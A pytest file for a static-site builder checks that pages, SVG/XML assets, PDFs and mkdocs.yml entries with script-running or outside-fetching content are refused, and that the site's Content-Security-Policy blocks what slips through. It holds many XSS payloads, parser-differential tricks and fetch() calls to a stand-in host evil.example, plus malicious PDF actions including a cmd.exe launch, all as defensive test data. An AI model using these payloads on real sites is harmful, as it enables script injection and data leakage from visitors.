"""Issue 26, parts 3-4: pages hold no HTML that runs, nothing is fetched from outside the site, as a browser reads
URLs (macros/html/urls.py, macros/html/page_safety.py); the same refusals in `check`, the strict build and
`publish`; the pages' Content-Security-Policy blocks in Chromium what slips through.

Quick tier first (pure functions on snippets), then one module-scoped copy of the project carrying every attack at
once (one `check`, one build), then the real site and Chromium."""
from __future__ import annotations

import base64
import hashlib
import re
import shutil
import threading
from pathlib import Path

import pytest

from conftest import build_site, copy_project, unsigned
from macros.html.page_safety import page_problems
from macros.html.served_files import site_problems
from macros.html.urls import css_urls, script_urls, where
from test_bad_inputs import run_check

# ------------------------------------------------------------------------------------------------- URLs (quick)


@pytest.mark.parametrize("url, kind", [
    ("https:\\\\evil.example\\a.png", "outside"), ("https:evil.example/x", "outside"), ("//evil.example/", "outside"),
    ("\\\\evil.example/a", "outside"), ("ht\ttps://evil.example/", "outside"), (" \x01https://evil.example", "outside"),
    ("HTTP://evil.example", "outside"), ("file:///etc/passwd", "outside"), ("C:/x.png", "outside"),
    ("java\nscript:alert(1)", "script"), ("  JavaScript:alert(1)", "script"), ("vbscript:x", "script"),
    ("data:text/html,x", "data"), ("blob:x", "data"), ("mailto:a@b.vn", "mail"),
    ("assets/a.png", "site"), ("../2023/", "site"), ("#muc", "site"), ("?q=1", "site"), ("/x", "site"),
])
def test_where_a_url_leads_as_the_browser_parses_it(url, kind):
    assert where(url) == kind


def test_css_and_script_urls_are_read_through_their_escapes():
    css = r"a{background:url(\68ttps://evil.example/a.png)} @import '//evil.example/b.css'; " \
          r"b{background-image:image-set('https://evil.example/c.png' 1x)} /* url(https://comment.example) */"
    assert css_urls(css) == ["https://evil.example/a.png", "//evil.example/b.css", "https://evil.example/c.png"]
    js = r"""fetch("https://evil.example/a"); img.src = '\x68ttps://evil.example/b'; xhr.open("GET", "//evil.example/c")"""
    assert script_urls(js) == ["https://evil.example/a", "https://evil.example/b", "//evil.example/c"]


# ------------------------------------------------------------------------------------------ one page (quick)

ARTICLE_ATTACKS = {
    "script": "<script>alert(1)</script>",
    "base": '<base href="//evil.example/">',
    "iframe": '<iframe src="a.html"></iframe>',
    "object": '<object data="a.swf"></object>',
    "embed": '<embed src="a.swf">',
    "onerror": '<img src="x.png" onerror="alert(1)">',
    "svg-onload": '<svg onload="alert(1)"></svg>',
    "javascript-link": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript-entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "data-url": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "backslashes": '<img src="https:\\\\evil.example\\a.png">',
    "tab-in-scheme": '<img src="ht&#9;tps://evil.example/a.png">',
    "no-slashes": '<img src="https:evil.example/x">',
    "srcset": '<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">',
    "style-attribute": '<p style="background:url(\\68ttps://evil.example/a.png)">x</p>',
    "style-element": "<style>@import '//evil.example/x.css';</style>",
    "svg-image": '<svg><image href="//evil.example/a.png"/></svg>',
    "link-stylesheet": '<link rel="stylesheet" href="//evil.example/x.css">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "ping": '<a href="x.html" ping="https://evil.example/p">x</a>',
    "animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    # what a browser and html.parser read differently: the tag is real for the browser only
    "short-comment": '<!--><img src="x.png" onerror="alert(1)">-->',
    "bang-comment-end": '<!-- a --!><img src="x.png" onerror="alert(1)">-->',
    "cdata": '<![CDATA[><img src="x.png" onerror="alert(1)">]]>',
    "svg-style": '<svg><style><img src="x.png" onerror="alert(1)"></style></svg>',
    "math-style-unclosed": '<math><mtext><table><mglyph><style><img src="x.png" onerror="alert(1)">',   # no </style>
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    "refresh-without-url": '<meta http-equiv="refresh" content="0;https://evil.example/">',
    # an SVG or XML file opened on its own (Chromium 156 ran or fetched each): a style sheet from outside, an XSLT
    # from the site that writes a script, a prefixed XHTML script, a prefixed xlink:href, an entity holding a tag
    "xml-stylesheet": '<?xml-stylesheet type="text/css" href="https://evil.example/a.css"?>',
    "xml-stylesheet-xslt": '<?xml-stylesheet type="text/xsl" href="c.xml"?>',
    "prefixed-script": '<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>',
    "prefixed-xlink": '<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="https://evil.example/a.png"/></svg>',
    "entity": """<!DOCTYPE svg [<!ENTITY s "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>">]>"""
              "<svg>&s;</svg>",
    "css-src-function": '<p style="background-image: src(\'https://evil.example/a.png\')">x</p>',
}


@pytest.mark.parametrize("name", ARTICLE_ATTACKS)
def test_each_attack_in_an_article_is_refused(name):
    assert page_problems(f"<p>Đoạn văn.</p>{ARTICLE_ATTACKS[name]}<p>Tiếp.</p>", content=True).problems


def test_plain_report_html_passes():
    html = ('<h1 id="a">Báo cáo</h1><p>Số <strong>1.234</strong> <a href="../2023/">trang</a> '
            '<a href="https://chinhphu.vn/">một trang khác</a></p><img src="../assets/a.png" srcset="a.png 2x">'
            '<table><tr><td style="width: 10%">x</td></tr></table><svg viewBox="0 0 1 1"><title>t</title></svg>')
    assert page_problems(html, content=True).problems == []


THEME = ('<html><head><script src="../assets/javascripts/a.js"></script></head><body>{nav}'
         '<article class="md-content__inner md-typeset">{content}</article>'
         '<script src="../assets/javascripts/bundle.js"></script></body></html>')


def test_outside_the_article_only_the_themes_scripts_run():
    assert page_problems(THEME.format(nav="", content="<p>x</p>")).problems == []
    leaked = ['<span><script>alert(1)</script></span>',                           # a front-matter title
              '<script>__md_scope=new URL("..",location);location="//e"</script>',   # like Material's, not it
              '<script src="https://evil.example/a.js"></script>', '<img src=x onerror=alert(1)>']
    for nav in leaked:
        assert page_problems(THEME.format(nav=nav, content="<p>x</p>")).problems, nav
    early_close = THEME.format(nav="", content="</article><script>alert(1)</script><article>")
    assert page_problems(early_close).problems      # the page closing the article to write outside it


# ------------------------------------------------------------- every attack in one copy: check and the build

PAGE = "docs/2023/ii-2-2-to-chuc-xay-dung-dang.md"
GUIDE = "docs/huong-dan-bien-tap.md"
PLANTED = {   # file -> (text appended, what the error must name)
    PAGE: ('\n\n<img src="https:\\\\evil.example\\a.png">\n\n<a href="ht&#9;tps:evil.example/x">x</a>\n\n'
           '<p style="background:url(\\68ttps://evil.example/b.png)">y</p>\n\n<base href="//evil.example/">\n\n'
           '{{ "<script>alert(1)</script>" }}\n',
           ["evil.example\\a.png", "<base>", "<script>", "https:\\\\evil.example\\a.png"]),
    GUIDE: ('\n\n## Mục <img src=x onerror=alert(2)>\n\n<a href="javascript:alert(1)">x</a>\n',
            ["onerror=", "javascript:alert(1)"]),
}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    project = unsigned(copy_project(tmp_path_factory.mktemp("attacked") / "project"))   # attacks change printed words
    for file, (text, _) in PLANTED.items():
        path = project / file
        path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")
    css = project / "docs/assets/baocao.css"
    css.write_text(css.read_text(encoding="utf-8") + "\n.x { background: url(\\68ttps://evil.example/c.png); }\n",
                   encoding="utf-8")
    (project / "docs/assets/x.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
                                               '</svg>', encoding="utf-8")   # opened on its own, it runs
    (project / "docs/assets/x.xml").write_text('<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)">'
                                               '</body></html>', encoding="utf-8")
    (project / "docs/assets/y.svg").write_text('<?xml-stylesheet type="text/css" href="https://evil.example/y.css"?>'
                                               '<svg xmlns="http://www.w3.org/2000/svg"/>', encoding="utf-8")
    checked = run_check(project)
    built = build_site(project, project.parent / "site")
    return project, checked, built


@pytest.mark.build
def test_check_and_the_build_refuse_every_attack_naming_the_page(attacked):
    project, checked, built = attacked
    for what, result in (("check", checked.stdout + checked.stderr), ("build", built.stdout + built.stderr)):
        assert "Traceback" not in result
        for file, (text, names) in PLANTED.items():
            for name in names[:3]:
                assert re.search(re.escape(file) + r":\d+: .*" + re.escape(name), result), (what, file, name, result)
    assert built.returncode != 0 and checked.returncode != 0
    for log in (built.stdout + built.stderr, checked.stdout + checked.stderr):   # the files docs/ holds besides pages
        assert "docs/assets/baocao.css" in log and "https://evil.example/c.png" in log
        assert re.search(r"docs/assets/x\.svg: .*<script>", log) and re.search(r"docs/assets/x\.xml: .*onload=", log)
        assert re.search(r"docs/assets/y\.svg: .*xml-stylesheet", log)


# ------------------------------------------------------------------------------------------------ the real site

CSP = re.compile(r'<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]+)">')


def test_the_real_site_passes_and_every_page_sends_the_policy(site):
    assert site_problems(site) == []
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 30
    for page in pages:
        policy = CSP.search(page.read_text(encoding="utf-8"))
        assert policy, page
        assert "default-src 'self'" in policy.group(1) and "base-uri 'self'" in policy.group(1)
        assert "http" not in policy.group(1) and "*" not in policy.group(1)
        text = page.read_text(encoding="utf-8")
        for script in re.findall(r"<script>(.*?)</script>", text, re.S):   # every inline script named by digest
            digest = base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode()
            assert f"'sha256-{digest}'" in policy.group(1), (page, script[:60])


PLANT = ('<img src="http://evil.example/a.png"><link rel="stylesheet" href="https://evil.example/b.css">'
         '<script>document.documentElement.dataset.planted = "ran"</script>'
         '<img src="x.png" onerror="document.documentElement.dataset.handler = \'ran\'">'
         '<script>fetch("https://evil.example/c"); new Image().src = "//evil.example/d.png";</script>')


def _serve(folder: Path):
    from macros.output.pdf import serve
    return serve(folder)


def _outside_requests(browser, folder: Path) -> tuple[list[str], list[str], dict]:
    """(requests Chromium tried to send to any host but the local server, console messages) loading the planted
    page. A load the policy blocks still shows as a "request" event, failed with "csp", and never reaches the
    network: what counts is what reaches the route handler, which aborts it (nothing leaves the machine)."""
    server = _serve(folder)
    base = f"http://127.0.0.1:{server.server_port}/"
    page = browser.new_page()
    sent, console = [], []

    def route(r):
        if r.request.url.startswith(base):
            r.continue_()
        else:
            sent.append(r.request.url)
            r.abort()
    page.route("**/*", route)
    page.on("console", lambda m: console.append(m.text))
    try:
        page.goto(base + "2023/", wait_until="load")
        page.wait_for_timeout(500)
        ran = page.evaluate("""() => { const d = document.documentElement.dataset;   // what the planted code did
            return {planted: d.planted || null, handler: d.handler || null} }""")
        search = page.evaluate("typeof __md_get")                        # the theme's own inline script ran
    finally:
        page.close()
        server.shutdown()
        server.server_close()
    return sent, console, {**ran, "theme": search}


@pytest.mark.browser
def test_the_policy_blocks_what_slips_into_a_page(browser, site, tmp_path):
    planted = tmp_path / "planted"
    shutil.copytree(site, planted)
    index = planted / "2023/index.html"
    text = index.read_text(encoding="utf-8")
    index.write_text(text.replace('<article class="md-content__inner md-typeset">',
                                  '<article class="md-content__inner md-typeset">' + PLANT, 1), encoding="utf-8")
    sent, console, ran = _outside_requests(browser, planted)
    assert sent == [], sent
    assert any("Content Security Policy" in m for m in console), console
    assert ran == {"planted": None, "handler": None, "theme": "function"}, ran   # only the theme's scripts ran
    # the same page without the policy: the browser does ask evil.example and runs the planted scripts (so the
    # lines above can fail)
    index.write_text(CSP.sub("<head>", index.read_text(encoding="utf-8")), encoding="utf-8")
    sent, _, ran = _outside_requests(browser, planted)
    assert len({u for u in sent if "evil.example" in u}) >= 3, sent
    assert ran == {"planted": "ran", "handler": "ran", "theme": "function"}, ran


def test_a_file_a_browser_decodes_otherwise_is_refused(tmp_path):
    """Files are checked as UTF-8: an SVG or HTML saved as UTF-16 (with its byte-order mark, or an SVG without one:
    an XML parser tells it from '<\\0') ran its <script> in Chromium 156 and looked like noise here; a declared other
    encoding is refused too. Plain UTF-8 files pass."""
    script = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    files = {"bom.svg": script.encode("utf-16"), "no-bom.svg": script.encode("utf-16-le"),
             "page.html": f"<html><body>{script}</body></html>".encode("utf-16"),
             "declared.svg": b'<?xml version="1.0" encoding="ISO-2022-JP"?><svg/>',
             "meta.html": b'<html><head><meta charset="ISO-2022-JP"></head><body>x</body></html>',
             "sheet.css": b'@charset "UTF-16";\na { color: red }',
             "ok.html": '<html><head><meta charset="utf-8"></head><body>Save with Encoding → UTF-8</body></html>'.encode(),
             "ok.svg": b'<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg"/>'}
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    refused = {rel for rel, _ in site_problems(tmp_path)}
    assert refused == set(files) - {"ok.html", "ok.svg"}


def test_a_pdf_that_runs_or_fetches_by_itself_is_refused(tmp_path):
    """A PDF of docs/ goes online as it is: one that runs a script or acts when opened (a viewer that runs PDF
    scripts: Acrobat Reader, Firefox's) is refused by the check of every served file; a link, which waits for a click,
    and a plain document pass."""
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

    def action(kind, **values):
        return DictionaryObject({NameObject("/S"): NameObject(kind), **{
            NameObject(f"/{k}"): TextStringObject(v) for k, v in values.items()}})

    def pdf(name, change=lambda writer, page: None):
        writer = PdfWriter()
        page = writer.add_blank_page(100, 100)
        change(writer, page)
        writer.write(tmp_path / name)
    pdf("script.pdf", lambda w, p: w._root_object.__setitem__(
        NameObject("/OpenAction"), action("/JavaScript", JS="app.launchURL('https://evil.example/x', true)")))
    pdf("open-uri.pdf", lambda w, p: w._root_object.__setitem__(
        NameObject("/OpenAction"), action("/URI", URI="https://evil.example/open")))
    pdf("page-opened.pdf", lambda w, p: p.__setitem__(
        NameObject("/AA"), DictionaryObject({NameObject("/O"): action("/Launch", F="cmd.exe")})))
    pdf("link.pdf", lambda w, p: p.__setitem__(NameObject("/Annots"), ArrayObject([DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4), NameObject("/A"): action("/URI", URI="https://x.vn/")})])))
    pdf("plain.pdf")
    (tmp_path / "damaged.pdf").write_bytes(b"%PDF-1.7\n" + b"x" * 100)
    refused = {rel for rel, _ in site_problems(tmp_path)}
    assert refused == {"script.pdf", "open-uri.pdf", "page-opened.pdf", "damaged.pdf"}


def test_a_kept_check_finds_what_the_check_finds(tmp_path):
    """The build keeps each page's check in the project's cache under the page's bytes (page_safety.kept_checks):
    the same problems the first time and from the cache, and a changed page is checked again."""
    from macros.cache import Cache
    from macros.html.page_safety import kept_checks
    page, _ = kept_checks(Cache(tmp_path / "cache"))
    bad = '<html><body><article><p onclick="x()">a</p><script src="http://evil.example/x.js"></script></article>'
    expected = page_problems(bad).problems
    assert expected and page("a/", bad, lambda html: page_problems(html).problems) == expected
    assert page("a/", bad, lambda html: pytest.fail("checked again")) == expected   # from the cache
    assert page("a/", "<html><body><article>ok</article>", lambda html: page_problems(html).problems) == []


def test_mkdocs_yml_addresses_are_checked_as_the_theme_writes_them(tmp_path):
    """check finds in mkdocs.yml what the build finds in every page it writes (it passed them): a nav entry to a
    script address, a style sheet from outside, Material's analytics (a script from outside). A nav link to another
    site is a link, not a fetch: allowed, as the build allows it."""
    from macros.commands.check import config_html
    from macros.config_policy import policy_errors
    config = tmp_path / "mkdocs.yml"
    lines = ["site_name: X", "extra:", "  analytics:", "    provider: google", "    property: G-1", "extra_css:",
             "  - assets/a.css", "  - https://evil.example/x.css", "nav:", "  - Trang: index.md",
             "  - X: javascript:alert(1)", "  - Y: https://example.org/", "theme:", "  name: material",
             "  favicon: https://evil.example/f.ico", "  logo: //evil.example/l.png"]   # the theme's icon and logo
    config.write_text("\n".join(lines) + "\n", encoding="utf-8")
    found = [(e.line, e.key, e.vi) for e in config_html(config)]
    assert [(line, key) for line, key, _ in found] == [(8, "extra_css"), (11, "nav.X"), (15, "theme.favicon"),
                                                      (16, "theme.logo")], found
    assert "https://evil.example/x.css" in found[0][2] and "javascript:alert(1)" in found[1][2]
    assert [e.key for e in policy_errors(config)] == ["extra.analytics"]
